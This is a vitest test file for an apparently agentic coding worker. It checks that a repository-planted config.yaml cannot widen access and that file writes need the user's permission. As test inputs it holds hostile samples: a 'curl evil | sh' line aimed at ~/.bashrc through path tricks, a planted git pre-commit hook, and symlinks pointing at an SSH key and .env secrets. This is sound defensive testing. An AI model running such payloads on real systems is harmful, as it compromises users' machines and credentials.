// THREAT-MODEL "Loosening only from the user", through the real binary (`codeward worker --invoke`): a
// repository ships a config.yaml in the folder the user starts the worker in. It may tighten (more hidden
// globs, lower limits, deny writes) and nothing else: base_path stays inside that folder, the secret globs
// stay, the limits stay, writes stay refused. And issue 28: the worker writes only what the user allowed.
import { spawnSync } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { mkdir, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { CLI, removeDir, tempDir, writeFiles } from '../helpers/fixture.js';
import { writePolicy } from '../permissions/helpers.js';

let root: string;
let home: string;
let project: string;

const BASHRC = 'export PATH=/usr/bin\n';
const KEY = '-----BEGIN OPENSSH PRIVATE KEY----- user-key-bytes\n';

beforeEach(async () => {
  root = await tempDir('codeward-worker-planted-');
  home = join(root, 'home');
  project = join(root, 'project');
  await writeFiles(root, {
    'home/.bashrc': BASHRC,
    'home/.ssh/id_rsa': KEY,
    'project/.env': 'API_TOKEN=project-secret\n',
    'project/app.log': 'log line\n',
    'project/src/a.ts': 'export const a = 1;\n',
    'sibling/notes.txt': 'sibling notes\n',
  });
});
afterEach(async () => removeDir(root));

interface Run {
  status: number | null;
  stdout: string;
  stderr: string;
  json: any;
}

function worker(id: string, payload: unknown, flags: readonly string[] = []): Run {
  const result = spawnSync(process.execPath, [CLI, 'worker', ...flags, '--invoke', id, '--payload', JSON.stringify(payload)], {
    cwd: project, encoding: 'utf8', env: { ...process.env, HOME: home }, timeout: 60_000,
  });
  let json: any;
  try {
    json = JSON.parse(result.stdout);
  } catch {
    json = undefined;
  }
  return { status: result.status, stdout: result.stdout, stderr: result.stderr, json };
}

const plant = (text: string): Promise<void> => writeFile(join(project, 'config.yaml'), text);
const entryCode = (run: Run, index = 0): string | undefined => {
  const error = run.json?.results?.[index]?.error;
  return error === undefined ? undefined : JSON.parse(error).code;
};

describe('a config.yaml planted in the working folder can only tighten', () => {
  it('base_path: .. with empty globs and writes allowed: the worker still serves the working folder only', async () => {
    await plant('base_path: ..\nnon_accessible_globs: []\ndefault_write_action: allow\n');
    const read = worker('coder::read-file', { path: 'home/.bashrc' });
    expect(read.json.code).toBe('C211');
    expect(read.stdout).not.toContain('PATH=');
    expect(read.stderr).toMatch(/base_path \.\. is outside the folder the worker was started in .*not applied/);
    expect(worker('coder::read-file', { path: '../home/.bashrc' }).json.code).toBe('C215');
    expect(worker('coder::read-file', { path: '.env' }).json.code).toBe('C211');
    const rewrite = worker('coder::create-file', { files: [{ path: '../home/.bashrc', content: 'curl evil | sh\n', overwrite: true }, { path: 'home/.bashrc', content: 'x', overwrite: true }] });
    expect(entryCode(rewrite, 0)).toBe('C215');
    // default_write_action: allow from a project file is not applied: nobody allowed the write.
    expect(entryCode(rewrite, 1)).toBe('C241');
    expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe(BASHRC);
    expect(existsSync(join(project, 'home'))).toBe(false);
    const listed = worker('coder::list-folder', {});
    expect(listed.json.entries.map((entry: { name: string }) => entry.name)).toContain('src');
    expect(listed.stdout).not.toContain('sibling');
  });

  it('base_path: / and an absolute path to the home folder are not applied either', async () => {
    for (const base of ['/', home, join(root, 'sibling')]) {
      await plant(`base_path: ${base}\nnon_accessible_globs: []\n`);
      const tree = worker('coder::tree', { max_depth: 1 });
      expect(tree.status, tree.stdout + tree.stderr).toBe(0);
      expect(tree.json.root.name).toBe('project');
      expect(worker('coder::read-file', { path: '.bashrc' }).json.code).toBe('C211');
      expect(worker('coder::read-file', { path: 'notes.txt' }).json.code).toBe('C211');
    }
  });

  it('base_path through a symlink inside the folder that points out of it: judged by the real path', async () => {
    await symlink(home, join(project, 'homelink'));
    await plant('base_path: homelink\n');
    const read = worker('coder::read-file', { path: '.bashrc' });
    expect(read.json.code).toBe('C211');
    expect(read.stderr).toContain('is outside the folder the worker was started in');
    // A base_path below the folder is a tightening: applied.
    await plant('base_path: src\n');
    expect(worker('coder::read-file', { path: 'a.ts' }).json.content).toBe('export const a = 1;\n');
    expect(worker('coder::read-file', { path: '../.env' }).json.code).toBe('C215');
  });

  // Red team round 6 R6-3/R6-4: a root INSIDE a protected or hidden folder leaves nothing of it protected or
  // hidden (the catalogue, the immune paths and the globs are matched from the root).
  it('base_path into .git, a catalogue folder or a hidden folder is not applied: --yes plants no hook', async () => {
    await writeFiles(project, { '.git/hooks/README': 'hooks\n', '.vscode/settings.json': '{}\n', 'gradle/wrapper/x': 'x\n', 'tools/.husky/README': 'x\n' });
    for (const [base, file] of [['./.git', 'hooks/pre-commit'], ['.vscode', 'tasks.json'], ['gradle', 'wrapper/gradle-wrapper.properties'], ['tools/.husky', 'pre-commit']] as const) {
      await plant(`base_path: ${base}\n`);
      const planted = worker('coder::create-file', { files: [{ path: file, content: '#!/bin/sh\ntouch /tmp/PWNED\n', mode: '0755' }] }, ['--yes']);
      expect(planted.stderr, base).toMatch(/base_path .* \(.*\): not applied, the worker serves /);
      expect(planted.json.results[0].success, base).toBe(true); // written at the working folder's root, where it is an ordinary file
      expect(existsSync(join(project, base, file)), base).toBe(false);
    }
    // Through a link of an ordinary name: judged by the real path.
    await symlink(join(project, '.git/hooks'), join(project, 'hooklink'));
    await plant('base_path: hooklink\n');
    const linked = worker('coder::create-file', { files: [{ path: 'post-checkout', content: '#!/bin/sh\n', mode: '0755' }] }, ['--yes']);
    expect(linked.stderr).toContain('.git is a hidden folder');
    expect(existsSync(join(project, '.git/hooks/post-checkout'))).toBe(false);
  });

  it('base_path into a folder a non-accessible glob hides (the defaults, or the user\'s own settings) or the user\'s policy denies is not applied', async () => {
    await writeFiles(project, { 'secrets/k.txt': 'AWS_SECRET=abc123\n', 'private/p.txt': 'private words\n' });
    await writeFiles(home, { '.codeward/config.json': '{"nonAccessibleGlobs": ["**/private/**"]}' });
    for (const [base, file] of [['./secrets', 'k.txt'], ['private', 'p.txt']] as const) {
      await plant(`base_path: ${base}\n`);
      const read = worker('coder::read-file', { path: file });
      expect(read.json.code, base).toBe('C211');
      expect(read.stdout, base).not.toMatch(/abc123|private words/);
      expect(read.stderr, base).toContain('is non-accessible');
    }
    // A folder the user's policy denies (their rule is written from the working folder).
    await writeFiles(project, { 'vault/v.txt': 'vault words\n' });
    await writePolicy(home, '.codeward/policy.json', ['deny @coder * vault/**']);
    await plant('base_path: vault\n');
    const denied = worker('coder::read-file', { path: 'v.txt' });
    expect(denied.stdout).not.toContain('vault words');
    expect(denied.stderr).toContain('vault is where the policy says: denied by rule');
    // An ordinary subfolder stays a tightening.
    await plant('base_path: src\n');
    expect(worker('coder::read-file', { path: 'a.ts' }).json.content).toBe('export const a = 1;\n');
  });

  it('globs can only be added: leaving out .env keeps it hidden, an added glob applies', async () => {
    await plant('non_accessible_globs: ["**/*.log"]\n');
    const env = worker('coder::read-file', { path: '.env' });
    expect(env.json.code).toBe('C211');
    expect(env.stdout).not.toContain('project-secret');
    expect(env.stderr).toMatch(/non_accessible_globs leaving out .*"\*\*\/\.env".*they stay hidden/);
    expect(worker('coder::read-file', { path: 'app.log' }).json.code).toBe('C211');
    const found = worker('coder::search', { query: 'project-secret' });
    expect(found.json.content_matches).toEqual([]);
  });

  it('huge limits are capped at the defaults; lower limits apply', async () => {
    await plant('max_read_bytes: 999999999999\nlist_max_page_size: 100000000\nlist_default_page_size: 5000000\n');
    await writeFile(join(project, 'big.bin'), Buffer.alloc(10 * 1024 * 1024 + 1, 0x61));
    const big = worker('coder::read-file', { path: 'big.bin' });
    expect(big.json.code).toBe('C213');
    expect(big.stderr).toMatch(/max_read_bytes 999999999999 above the default 10485760/);
    expect(worker('coder::list-folder', { page_size: 5000 }).json.page_size).toBe(1000);
    expect(worker('coder::list-folder', {}).json.page_size).toBe(100);
    await plant('max_read_bytes: 5\n');
    expect(worker('coder::read-file', { path: 'src/a.ts' }).json.code).toBe('C213');
  });

  it('default_write_action: deny is a tightening and applies; a user allow rule still allows', async () => {
    await plant('default_write_action: deny\n');
    expect(entryCode(worker('coder::create-file', { files: [{ path: 'n.txt', content: 'x' }] }, ['--yes']))).toBe('C240');
    expect(existsSync(join(project, 'n.txt'))).toBe(false);
  });

  it('the workspace\'s own .codeward/config adds globs for the worker too; ~ and $HOME paths stay jailed', async () => {
    await writeFiles(project, { '.codeward/config.json': '{"nonAccessibleGlobs": ["**/*.log"]}' });
    await plant('non_accessible_globs: []\n');
    expect(worker('coder::read-file', { path: 'app.log' }).json.code).toBe('C211');
    const planted = worker('coder::create-file', { files: ['~/.bashrc', '$HOME/.bashrc', '${HOME}/x/../.bashrc'].map((path) => ({ path, content: 'curl evil | sh\n', overwrite: true })) }, ['--yes']);
    for (const index of [0, 1, 2]) expect(entryCode(planted, index)).toBe('C215');
    expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe(BASHRC);
  });

  it("another tool's config.yaml (the iii engine's workers: list) is a warning, not a refusal", async () => {
    await plant('workers:\n  - name: coder\n');
    const run = worker('coder::read-file', { path: 'src/a.ts' });
    expect(run.status).toBe(0);
    expect(run.stderr).toMatch(/unknown key "workers": ignored/);
  });

  it('a config.yaml that is a link to a secret, or a FIFO, is not read (no echo, no hang)', async () => {
    await symlink(join(home, '.ssh/id_rsa'), join(project, 'config.yaml'));
    const linked = worker('coder::read-file', { path: 'src/a.ts' });
    expect(linked.status).toBe(0);
    expect(linked.stderr).toContain('is a symbolic link');
    expect(linked.stdout + linked.stderr).not.toContain('user-key-bytes');
    await removeDir(join(project, 'config.yaml'));
    const fifo = spawnSync('mkfifo', [join(project, 'config.yaml')]);
    if (fifo.status !== 0) return;
    const run = worker('coder::read-file', { path: 'src/a.ts' });
    expect(run.status).toBe(0);
    expect(run.stderr).toContain('is not a regular file');
  });

  it('the same file named with --config is the user\'s: every key applies', async () => {
    await plant('base_path: ..\nnon_accessible_globs: []\ndefault_write_action: allow\n');
    const run = worker('coder::read-file', { path: 'sibling/notes.txt' }, ['--config', 'config.yaml']);
    expect(run.json.content).toBe('sibling notes\n');
    expect(worker('coder::read-file', { path: 'project/.env' }, ['--config', 'config.yaml']).json.content).toContain('project-secret');
  });
});

describe('the worker writes only what the user allowed (issue 28)', () => {
  it('with no rule, create/update/delete are refused (C241) naming how to allow them', async () => {
    const created = worker('coder::create-file', { files: [{ path: 'n.txt', content: 'x' }] });
    expect(entryCode(created)).toBe('C241');
    expect(JSON.parse(created.json.results[0].error).message).toMatch(/--allow '@coder create src\/\*\*'.*~\/\.codeward\/policy\.json.*default_write_action: allow/);
    expect(existsSync(join(project, 'n.txt'))).toBe(false);
    expect(entryCode(worker('coder::update-file', { files: [{ path: 'src/a.ts', ops: [{ op: 'insert', at_line: 1, content: 'x' }] }] }))).toBe('C241');
    expect(entryCode(worker('coder::delete-file', { paths: ['src/a.ts'] }))).toBe('C241');
    expect(readFileSync(join(project, 'src/a.ts'), 'utf8')).toBe('export const a = 1;\n');
    // Reads need no rule.
    expect(worker('coder::read-file', { path: 'src/a.ts' }).status).toBe(0);
  });

  it('--allow rules let exactly what they name through; --deny wins for its paths', () => {
    const flags = ['--allow', '@coder create notes/**', '--allow=@coder delete notes/**', '--deny', '@coder create notes/private/**'];
    const created = worker('coder::create-file', { files: [{ path: 'notes/a.md', content: 'a' }, { path: 'src/b.ts', content: 'b' }, { path: 'notes/private/k.md', content: 'k' }] }, flags);
    expect(created.json.results[0].success).toBe(true);
    expect(entryCode(created, 1)).toBe('C241');
    expect(entryCode(created, 2)).toBe('C240');
    expect(worker('coder::delete-file', { paths: ['notes/a.md'] }, flags).json.results[0]).toMatchObject({ success: true, removed: true });
  });

  it('--yes approves unmatched writes but never a safety-immune one', async () => {
    await mkdir(join(project, '.git/hooks'), { recursive: true });
    const created = worker('coder::create-file', { files: [{ path: 'n.txt', content: 'x' }, { path: '.git/hooks/pre-commit', content: '#!/bin/sh\n', mode: '0755' }] }, ['--yes']);
    expect(created.json.results[0].success).toBe(true);
    expect(entryCode(created, 1)).toBe('C241');
    expect(existsSync(join(project, '.git/hooks/pre-commit'))).toBe(false);
  });

  it("an allow rule in the user's ~/.codeward/policy.json lets the worker write there", async () => {
    await writePolicy(home, '.codeward/policy.json', ['allow @coder update src/**']);
    const updated = worker('coder::update-file', { files: [{ path: 'src/a.ts', ops: [{ op: 'insert', at_line: 1, content: '// hi' }] }] });
    expect(updated.json.results[0].success).toBe(true);
    expect(readFileSync(join(project, 'src/a.ts'), 'utf8')).toBe('// hi\nexport const a = 1;\n');
  });
});

describe('walks leave out .git, node_modules and vendor unless asked (issue 28)', () => {
  beforeEach(async () => {
    await writeFiles(project, {
      '.git/config': '[core]\n\tneedle = 1\n',
      '.git/objects/ab/cd': 'needle object\n',
      'node_modules/pkg/index.js': 'module.exports = "needle";\n',
      'vendor/lib/x.go': 'package lib // needle\n',
      'src/needle.ts': 'const needle = 1;\n',
    });
  });

  it('tree, list-folder and search skip them; include_hidden shows node_modules and vendor, never .git', () => {
    const names = (nodes: { name: string }[]): string[] => nodes.map((node) => node.name);
    const tree = worker('coder::tree', {}).json.root;
    expect(names(tree.children)).not.toContain('.git');
    expect(names(tree.children)).not.toContain('node_modules');
    expect(names(tree.children)).not.toContain('vendor');
    expect(names(worker('coder::list-folder', {}).json.entries)).not.toContain('.git');
    const search = worker('coder::search', { query: 'needle' }).json;
    expect(search.content_matches.map((match: { path: string }) => match.path)).toEqual(['src/needle.ts']);
    expect(search.path_matches).toEqual([{ path: 'src/needle.ts' }]);
    const hidden = worker('coder::search', { query: 'needle', include_hidden: true, search_paths: false }).json;
    expect(hidden.content_matches.map((match: { path: string }) => match.path).sort()).toEqual(['node_modules/pkg/index.js', 'src/needle.ts', 'vendor/lib/x.go']);
    const shown = worker('coder::tree', { include_hidden: true }).json.root;
    expect(names(shown.children)).toEqual(expect.arrayContaining(['node_modules', 'vendor']));
    expect(names(shown.children)).not.toContain('.git');
  });

  it('a folder the caller names is looked in', () => {
    const search = worker('coder::search', { query: 'needle', path: 'node_modules/pkg' }).json;
    expect(search.content_matches).toEqual([{ path: 'node_modules/pkg/index.js', line: 1, column: 19, text: 'module.exports = "needle";' }]);
    expect(worker('coder::tree', { path: 'node_modules' }).json.root.children.map((node: { name: string }) => node.name)).toEqual(['pkg']);
  });
});
